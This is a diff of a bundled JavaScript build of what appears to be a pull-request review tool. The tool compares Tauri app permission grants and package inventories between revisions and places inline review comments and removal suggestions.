       for (const gap of widened.gaps) gaps2.push(gap);
       return {
         changes: [...widened.drafts.changes("widened"), ...narrowed.drafts.changes("narrowed")],
@@ -61403,6 +57727,9 @@ var ipcComparison = {
     return authorises(sureOf(grants), witness, platform2 ?? PLATFORMS[0]);
   }
 };
+function isKnown({ inferred, effect }) {
+  return !inferred || effect === "deny";
+}
 function isSure({ command: command2, inferred }) {
   return command2 !== ANY_APP_COMMAND || !inferred;
 }
@@ -61635,7 +57962,7 @@ function isNewer(a, b) {
 var NOTHING3 = namedOf([]);
 function inventoryOf(grants) {
   const packages = distinct3(grants.filter((grant) => grant.kind === "package"));
-  const unread2 = grants.filter((grant) => grant.kind === "unread-lockfile");
+  const unread3 = grants.filter((grant) => grant.kind === "unread-lockfile");
   const groups3 = Map.groupBy(packages, nameOf3);
   const byName = new Map([...groups3].map(([name, group2]) => [name, namedOf(group2)]));
   const identities = new Set(packages.map(identityOf3));
@@ -61643,7 +57970,7 @@ function inventoryOf(grants) {
   const origins = new Set(packages.map((each) => JSON.stringify([each.ecosystem, originOf3(each.source)])));
   return {
     packages,
-    unread: unread2,
+    unread: unread3,
     named: (each) => byName.get(nameOf3(each)) ?? NOTHING3,
     has: (each) => identities.has(identityOf3(each)),
     isEmpty: (ecosystem) => !ecosystems.has(ecosystem),
@@ -62058,31 +58385,40 @@ function unconfirmed(change, why2) {
 }
 
 // src/engine/review-app.ts
-var MOST_EXTRA_LAYERS = 8;
+var MOST_EXTRA_BUILDS = 8;
 function appUnderReview(pair, { files: base, gaps: baseGaps }, head) {
   const { head: here, base: was } = pair;
   if (here === null) return void 0;
   const there = was !== null && baseGaps.some(({ path }) => wants(path, was)) ? null : was;
-  const build = (layer) => {
-    const layerOf = (files, root) => layer === null ? null : files.get(root === "" ? layer : `${root}/${layer}`) ?? null;
+  const extras = extraBuilds(here, head);
+  const before = there === null ? [] : extraBuilds(there, base);
+  const build = (extra) => {
+    const same = extra === null ? void 0 : sameBuild(extra, before, extras);
     return {
-      layer,
-      base: there && loadProject(there, base, layerOf(base, there.root)),
-      head: loadProject(here, head, layerOf(head, here.root))
+      layer: extra?.name ?? null,
+      base: there && loadProject(there, base, same?.layers),
+      head: loadProject(here, head, extra?.layers)
     };
   };
-  const layers = extraLayers(here, head).map(({ path }) => baseName(path));
-  const gaps2 = layers.slice(MOST_EXTRA_LAYERS).map(
-    (layer) => gapIn(
-      here.root === "" ? layer : `${here.root}/${layer}`,
-      "not-checked",
-      `The app has more than ${MOST_EXTRA_LAYERS} extra configurations; ${code(layer)} was not compared.`
-    )
-  );
-  return { root: here.root, builds: [null, ...layers.slice(0, MOST_EXTRA_LAYERS)].map(build), gaps: gaps2 };
+  const gaps2 = extras.slice(MOST_EXTRA_BUILDS).map(({ name, layers }) => {
+    const message = `The app has more than ${MOST_EXTRA_BUILDS} builds with extra configurations; the one with ${code(name)} was not compared.`;
+    return gapIn(layers[0]?.file.path ?? here.config, "not-checked", message);
+  });
+  return { root: here.root, builds: [null, ...extras.slice(0, MOST_EXTRA_BUILDS)].map(build), gaps: gaps2 };
+}
+function sameBuild({ key }, before, after) {
+  const isIn = (builds, build) => builds.some((other) => other.key === build.key);
+  const gone = before.filter((build) => !isIn(after, build));
+  const come = after.filter((build) => !isIn(before, build));
+  const isOnly = gone.length === 1 && come.length === 1 && come[0]?.key === key;
+  return before.find((build) => build.key === key) ?? (isOnly ? gone[0] : void 0);
 }
 function needsOf({ builds: [build] }) {
-  return build === void 0 ? [] : readers.flatMap((reader) => reader.needs?.(build.base, build.head) ?? []);
+  const needs = build === void 0 ? [] : readers.flatMap((reader) => reader.needs?.(build.base, build.head) ?? []);
+  return [...needs].sort((a, b) => Number(isPlugin(b)) - Number(isPlugin(a)));
+}
+function isPlugin({ name }) {
+  return name.startsWith("tauri-plugin-");
 }
 function reviewApp(app, facts) {
   const findings = /* @__PURE__ */ new Map();
@@ -62134,16 +58470,18 @@ function hidesSome({ gaps: gaps2 }) {
   return gaps2.some(({ kind }) => kind === "unparsed" || kind === "unreadable" || kind === "truncated");
 }
 function settled(before, after) {
-  const known = new Set(before.gaps.flatMap(({ release }) => release ?? []));
-  const still = new Set(inferredGrants(after));
-  if (!inferredGrants(before).every((grant) => still.has(grant))) return after.gaps;
+  const known = new Set(before.gaps.flatMap(({ rests }) => rests ?? []));
+  const still = new Set(restingGrants(after));
+  if (!restingGrants(before).every((grant) => still.has(grant))) return after.gaps;
   return after.gaps.map(
-    (gap) => gap.release !== void 0 && known.has(gap.release) ? { ...gap, blocking: false } : gap
+    (gap) => gap.rests !== void 0 && known.has(gap.rests) ? { ...gap, blocking: false } : gap
   );
 }
-function inferredGrants({ grants }) {
-  const guessed = grants.filter((grant) => grant.domain === "ipc" && grant.inferred);
-  return guessed.map(
+function restingGrants({ grants }) {
+  const resting = grants.filter(
+    (grant) => grant.domain === "ipc" && (grant.inferred || grant.effect === "deny")
+  );
+  return resting.map(
     (grant) => JSON.stringify(grant, (name, value) => PLACES.has(name) ? void 0 : value)
   );
 }
@@ -62174,22 +58512,12 @@ async function reviewTrees({
 }) {
   progress("Listing both revisions");
   const [before, after] = await Promise.all([base.list(), head.list()]);
-  const pairs = await findApps(base, head, before, after);
+  const pairs2 = await findApps(base, head, before, after);
   const [there, here] = [ofUse(before.entries), ofUse(after.entries)];
-  const looked = pairs.slice(0, MOST_APPS).map((pair) => ({
-    pair,
-    base: wantedBy(pair.base, there),
-    head: wantedBy(pair.head, here)
-  }));
-  const touched = looked.filter((each) => !untouched(each));
-  progress(`Reading ${touched.length} of ${pairs.length} apps`);
-  const files = await readBothSides(
-    base,
-    head,
-    oncePerPath(touched.flatMap((each) => each.base)),
-    oncePerPath(touched.flatMap((each) => each.head))
-  );
-  const apps = touched.flatMap(({ pair }) => appUnderReview(pair, files.base, files.head.files) ?? []);
+  progress(`Reading ${Math.min(pairs2.length, MOST_APPS)} apps`);
+  const looked = pairs2.slice(0, MOST_APPS);
+  const files = await gather2(base, head, looked, there, here);
+  const apps = files.touched.flatMap((pair) => appUnderReview(pair, files.base, files.head.files) ?? []);
   const needs = apps.flatMap(needsOf);
   if (needs.length > 0) progress(`Looking up ${needs.length} packages`);
   const known = await facts.fetch(needs);
@@ -62198,10 +58526,10 @@ async function reviewTrees({
   const found2 = once(judged.flatMap((each) => each.findings)).sort(comparePlaces);
   const { findings, turnedOff } = applyPolicy(found2, policy);
   const gaps2 = once([
-    ...tooManyApps(pairs),
+    ...tooManyApps(pairs2),
     ...listingGaps(
       { ...after, entries: here },
-      looked.flatMap(({ pair }) => [pair.base, pair.head]).filter((app) => app !== null)
+      looked.flatMap((pair) => [pair.base, pair.head]).filter((app) => app !== null)
     ),
     ...files.head.gaps,
     ...judged.flatMap((each) => each.gaps)
@@ -62210,7 +58538,7 @@ async function reviewTrees({
     base: before.revision,
     head: after.revision,
     verdict: verdictOf(findings, gaps2, policy),
-    apps: pairs.flatMap((pair) => reviewedApp(pair, apps)),
+    apps: pairs2.flatMap((pair) => reviewedApp(pair, apps)),
     findings,
     turnedOff,
     narrowings: once(judged.flatMap((each) => each.narrowings)).sort(comparePlaces),
@@ -62226,17 +58554,11 @@ async function findApps(base, head, before, after) {
     await identitiesOf(base, head, before, after, there ?? [], here ?? [])
   );
 }
-function untouched({ pair, base, head }) {
-  return pair.base !== null && pair.head !== null && isUntouched(base, head, pair.base, pair.head);
-}
-function oncePerPath(entries) {
-  return [...new Map(entries.map((entry) => [entry.path, entry])).values()];
-}
-function tooManyApps(pairs) {
-  const [first] = pairs.slice(MOST_APPS);
+function tooManyApps(pairs2) {
+  const [first] = pairs2.slice(MOST_APPS);
   const location2 = first?.head ?? first?.base;
   if (location2 === void 0 || location2 === null) return [];
-  const message = `The repository holds ${pairs.length} apps. ${MOST_APPS} of them were compared, and this one and the rest were not.`;
+  const message = `The repository holds ${pairs2.length} apps. ${MOST_APPS} of them were compared, and this one and the rest were not.`;
   return [gapIn(location2.config, "truncated", message)];
 }
 function reviewedApp({ base, head }, apps) {
@@ -62786,10 +59108,10 @@ ${rest.join("\n\n")}
 </details>`]
   ].join("\n\n");
 }
-function suggestionBlock({ lines }) {
-  const longest = Math.max(2, ...lines.flatMap((line) => (line.match(/`+/g) ?? []).map((run2) => run2.length)));
+function suggestionBlock({ lines: lines2 }) {
+  const longest = Math.max(2, ...lines2.flatMap((line) => (line.match(/`+/g) ?? []).map((run2) => run2.length)));
   const fence = "`".repeat(longest + 1);
-  return [`${fence}suggestion`, ...lines, fence].join("\n");
+  return [`${fence}suggestion`, ...lines2, fence].join("\n");
 }
 var SUGGESTION_BLOCK = /\n\n(`{3,})suggestion\n(?:[^\n]*\n)*?\1(?=\n|$)/;
 function resolutionInWords(because) {
@@ -62945,21 +59267,21 @@ function diffOf(files) {
   return new Map(files.map(({ path, patch }) => [path, patch === null ? null : diffLines(patch)]));
 }
 function diffLines(patch) {
-  const lines = patch.split("\n");
+  const lines2 = patch.split("\n");
   const left = /* @__PURE__ */ new Set();
   const right = /* @__PURE__ */ new Set();
   const added = [];
   const hunks = [];
-  let index = lines.findIndex((line) => line.startsWith("@@"));
+  let index = lines2.findIndex((line) => line.startsWith("@@"));
   if (index < 0) return null;
-  while (index < lines.length) {
-    const header = headerIn(lines[index] ?? "");
-    if (header === void 0) return isRest(lines.slice(index)) ? { left, right, added, hunks } : null;
+  while (index < lines2.length) {
+    const header = headerIn(lines2[index] ?? "");
+    if (header === void 0) return isRest(lines2.slice(index)) ? { left, right, added, hunks } : null;
     index++;
     let { base, head, baseLeft, headLeft } = header;
     const runs2 = new AddedRuns(head);
     while (baseLeft > 0 || headLeft > 0) {
-      const line = lines[index++];
+      const line = lines2[index++];
       if (line === void 0) return null;
       const sign = line[0] ?? " ";
       if (sign === "\\") continue;
@@ -62973,7 +59295,7 @@ function diffLines(patch) {
     }
     if (head > header.head) hunks.push({ first: header.head, last: head - 1 });
     for (const run2 of runs2.finish()) added.push(run2);
-    while (lines[index]?.startsWith("\\")) index++;
+    while (lines2[index]?.startsWith("\\")) index++;
   }
   return { left, right, added, hunks };
 }
@@ -62983,21 +59305,21 @@ function headerIn(line) {
   if (base === void 0 || head === void 0) return void 0;
   return { base: +base, head: +head, baseLeft: +baseLeft, headLeft: +headLeft };
 }
-function isRest(lines) {
-  return lines.every((line) => line === "");
+function isRest(lines2) {
+  return lines2.every((line) => line === "");
 }
 
 // src/review/place-comments.ts
 var COMMENT_LIMITS = { inline: 30, files: 10 };
 function anchorOf({ path, line, endLine }, diff) {
-  const lines = diff.get(path);
-  if (lines === void 0) return null;
-  const carried = lines === null ? void 0 : firstWithin(lines.right, line, endLine);
+  const lines2 = diff.get(path);
+  if (lines2 === void 0) return null;
+  const carried = lines2 === null ? void 0 : firstWithin(lines2.right, line, endLine);
   return carried === void 0 ? { kind: "file", path } : { kind: "line", path, line: carried, startLine: null };
 }
-function firstWithin(lines, first, last2) {
-  if (lines.has(first)) return first;
-  const within3 = [...lines].filter((line) => line > first && line <= last2);
+function firstWithin(lines2, first, last2) {
+  if (lines2.has(first)) return first;
+  const within3 = [...lines2].filter((line) => line > first && line <= last2);
   return within3.length === 0 ? void 0 : within3.reduce((a, b) => Math.min(a, b));
 }
 var Room = class {
@@ -63034,8 +59356,8 @@ function suggestRemoval(finding, file2) {
   const suggestion = isToml ? inToml(first, last2, before, entry, after) : inJson(first, last2, before, entry, after);
   return suggestion?.lines.every(isPlain) ? suggestion : void 0;
 }
-function removedLines({ first, last: last2, lines }) {
-  return { first: first + lines.length, last: last2 };
+function removedLines({ first, last: last2, lines: lines2 }) {
+  return { first: first + lines2.length, last: last2 };
 }
 function entryRange({ line, column, endLine }, file2, isToml) {
   const text = file2[line - 1] ?? "";
@@ -63095,10 +59417,10 @@ var SuggestedLines = class {
   }
   #take(finding, fits) {
     const { path } = finding;
-    const lines = this.#diff.get(path);
+    const lines2 = this.#diff.get(path);
     const suggestion = suggestRemoval(finding, this.#files.get(path) ?? []);
-    if (lines == null || suggestion === void 0 || !fits(suggestion)) return void 0;
-    if (!isAdded(suggestion, lines) || !isOneHunk(suggestion, lines)) return void 0;
+    if (lines2 == null || suggestion === void 0 || !fits(suggestion)) return void 0;
+    if (!isAdded(suggestion, lines2) || !isOneHunk(suggestion, lines2)) return void 0;
     const keys = range(suggestion.first, suggestion.last).map((line) => `${line}\0${path}`);
     if (keys.some((key) => this.#taken.has(key))) return void 0;
     for (const key of keys) this.#taken.add(key);
